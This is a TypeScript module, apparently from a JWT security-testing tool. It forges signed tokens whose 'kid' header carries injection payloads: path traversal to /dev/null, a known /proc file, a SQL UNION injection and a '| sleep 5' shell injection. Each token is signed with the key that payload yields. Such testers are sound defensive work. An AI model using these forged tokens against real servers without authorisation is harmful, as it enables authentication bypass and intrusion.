import { setJsonMember } from '../json-edit.ts';
import { make, makeAll, withAlg } from './make.ts';
import type { VariantModule } from './variant.ts';

const utf8 = new TextEncoder();

interface Payload {
  id: string;
  label: string;
  kid: (params: Readonly<Record<string, string>>) => string;
  secret: (params: Readonly<Record<string, string>>) => string;
  note: string;
}

const PAYLOADS: readonly Payload[] = [
  {
    id: 'path-traversal',
    label: 'path traversal to /dev/null, empty key',
    kid: () => '../../../../../../dev/null',
    secret: () => '',
    note: 'A server that reads the key file named by kid reads /dev/null: an empty HMAC key.',
  },
  {
    id: 'proc-file',
    label: 'known file /proc/sys/kernel/randomize_va_space, key "2\\n"',
    kid: () => '/proc/sys/kernel/randomize_va_space',
    secret: () => '2\n',
    note: 'On Linux this file holds "2\\n" (full ASLR): the HMAC key is those two bytes.',
  },
  {
    id: 'sql',
    label: 'SQL injection returning a chosen key',
    kid: (p) => `' UNION SELECT '${(p.sqlSecret ?? 'secret').replace(/'/g, "''")}' --`,
    secret: (p) => p.sqlSecret ?? 'secret',
    note: 'A server that looks the key up with SQL built from kid gets the chosen secret back from the UNION.',
  },
  {
    id: 'command',
    label: 'command injection (| sleep 5)',
    kid: () => '| sleep 5',
    secret: () => '',
    note: 'A server that passes kid to a shell pauses 5 s: time the response. Signed with an empty key.',
  },
];

/** `kid` payloads for servers that put the key id in a file path, a SQL query or a shell command. */
export const kidInjectionVariant: VariantModule = {
  id: 'kid-injection',
  title: 'kid injection',
  tests: 'Whether the server uses "kid" in a file path, a SQL query or a shell command to find the key.',
  reference: 'RFC 8725 §3.10',
  rule: 'kid-injection',
  params: [
    {
      name: 'payload',
      label: 'Payload',
      kind: 'choice',
      choices: [{ value: 'all', label: 'all' }, ...PAYLOADS.map((p) => ({ value: p.id, label: p.label }))],
      default: 'all',
    },
    { name: 'sqlSecret', label: 'Key the SQL injection returns', kind: 'text', default: 'secret' },
  ],
  appliesTo: (decoded) => decoded.kind === 'jws' || decoded.kind === 'unsecured',
  forge: (source, params) => {
    const alg = source.alg === 'HS384' || source.alg === 'HS512' ? source.alg : 'HS256';
    const chosen = PAYLOADS.filter((p) => !params.payload || params.payload === 'all' || params.payload === p.id);
    return makeAll(
      chosen.map((p) => {
        const secret = p.secret(params);
        return make(
          'kid-injection',
          `${alg}, kid: ${p.label}`,
          {
            headerText: setJsonMember(withAlg(source, alg), 'kid', JSON.stringify(p.kid(params))),
            payloadText: source.payloadText,
            signing: {
              mode: 'sign',
              alg,
              key: { kind: 'secret', bytes: utf8.encode(secret), label: JSON.stringify(secret), allowEmpty: true },
            },
          },
          { note: p.note },
        );
      }),
    );
  },
};
